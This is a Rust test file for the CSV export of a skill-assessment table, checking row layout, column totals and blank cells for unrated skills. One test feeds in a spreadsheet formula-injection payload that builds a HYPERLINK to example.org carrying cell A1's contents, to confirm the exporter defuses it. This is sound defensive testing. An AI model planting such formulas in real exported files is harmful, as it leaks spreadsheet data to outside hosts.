//! The table of every skill, read back by the `csv` crate.

use assessment::answer::Answer;
use assessment::ids::SkillNumber;
use assessment::report::Report;
use formats::csv;
use proptest::prelude::*;

use super::{Example, any_text};

pub(super) fn read_table(text: &str) -> Vec<Vec<String>> {
    // The reader drops one by itself, as spreadsheets do.
    assert!(text.starts_with('\u{feff}'), "no byte-order mark");
    // Unlike the default, a row that is longer or shorter than the first is an error.
    let mut reader = ::csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(false)
        .from_reader(text.as_bytes());
    let rows = reader.records().map(|row| row.expect("a row"));
    rows.map(|row| row.iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn the_table_has_every_skill_with_its_numbers() {
    let sample = Example::sample();
    let rows = read_table(&csv::write(&sample.table()));
    let skills = sample.language.framework().skills();
    assert_eq!(rows.len(), skills.len() + 1);
    let names: Vec<&str> = rows[1..].iter().map(|row| row[1].as_str()).collect();
    let expected: Vec<&str> = skills.iter().map(|skill| skill.name.as_str()).collect();
    assert_eq!(names, expected);
    assert_eq!(rows[0][..4], ["Area", "Skill", "Kind", "Industry"]);
    let row = |name: &str| {
        let found = rows.iter().find(|row| row[1] == name);
        found.expect("a row").join("; ")
    };
    assert_eq!(
        row("A/B testing and experiments"),
        "Evidence; A/B testing and experiments; Hard; Core; 1; Aware; 3; Proficient; 2; 3; Yes; 6; 9; \
         I have tried two versions on actual people to see which worked better."
    );
}

#[test]
fn the_table_adds_up_to_the_readiness_of_the_page() {
    let sample = Example::sample();
    let rows = read_table(&csv::write(&sample.table()));
    let sum = |column: usize| -> u32 {
        let cells = rows[1..].iter().map(|row| &row[column]);
        let filled = cells.filter(|cell| !cell.is_empty());
        filled
            .map(|cell| cell.parse::<u32>().expect("a number"))
            .sum()
    };
    let framework = sample.language.framework();
    let profile = framework
        .profile(sample.snapshot.aim.profile_key())
        .expect("a role");
    let report = Report::new(framework, profile, &sample.snapshot.answers);
    assert_eq!(sum(11), report.tally.readiness.missing);
    assert_eq!(sum(12), report.tally.readiness.asked);
}

#[test]
fn what_was_not_rated_is_no_zero_in_the_table() {
    let mut sample = Example::sample();
    let skill = SkillNumber(1);
    // Neither asked by the role nor by the aim.
    let foreign = sample.language.framework().skills().iter();
    let foreign = foreign.filter(|skill| skill.id == "technology-trends");
    let foreign = foreign.map(|skill| skill.name.clone()).next();
    let table = sample.table();
    let row = table.iter().find(|row| Some(&row[1]) == foreign.as_ref());
    assert_eq!(row.expect("a row")[4..6], ["", "Not asked"]);
    for (answers, word) in [
        (
            sample.snapshot.answers.clone().forgetting(skill),
            "Not answered",
        ),
        (
            sample
                .snapshot
                .answers
                .clone()
                .with(skill, Answer::NotApplicable, 0),
            "Not applicable",
        ),
    ] {
        sample.snapshot.answers = answers;
        let row = sample.table().swap_remove(1);
        assert_eq!([&row[4], &row[5]], ["", word]);
        assert_eq!([&row[8], &row[11], &row[12], &row[13]], [""; 4]);
    }
}

#[test]
fn a_skill_named_like_a_formula_is_text() {
    let mut rows = Example::sample().table();
    rows[1][1] = "=HYPERLINK(\"https://example.org?\"&A1,\"x\")".to_owned();
    let read = read_table(&csv::write(&rows));
    assert_eq!(read[1][1], format!("'{}", rows[1][1]));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_cell_comes_back(rows in prop::collection::vec([any_text(), any_text()], 1..8)) {
        let rows: Vec<Vec<String>> = rows.into_iter().map(|row| row.to_vec()).collect();
        let read = read_table(&csv::write(&rows));
        for (cell, read) in rows.iter().flatten().zip(read.iter().flatten()) {
            let defused = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
            let expected = if defused { format!("'{cell}") } else { cell.clone() };
            prop_assert_eq!(read, &expected);
        }
    }
}
